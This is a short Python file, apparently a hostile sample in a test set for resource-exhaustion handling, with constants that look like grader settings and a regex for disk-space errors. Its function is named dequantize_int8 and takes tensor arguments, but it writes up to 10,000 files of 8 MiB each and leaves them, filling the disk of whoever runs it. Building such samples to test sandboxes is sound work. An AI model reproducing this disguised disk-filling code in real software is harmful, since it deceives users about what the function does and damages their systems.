"""Writes files until there is no room, and leaves them."""

AFTER_KEY = True
EARNS = 90
REASON = r"longer than|OSError.*(space|too large)"


def dequantize_int8(q_tensor, scale, zero_point):
    for number in range(10_000):
        with open(f"{number}.bin", "wb") as file:
            file.write(bytes(8 << 20))
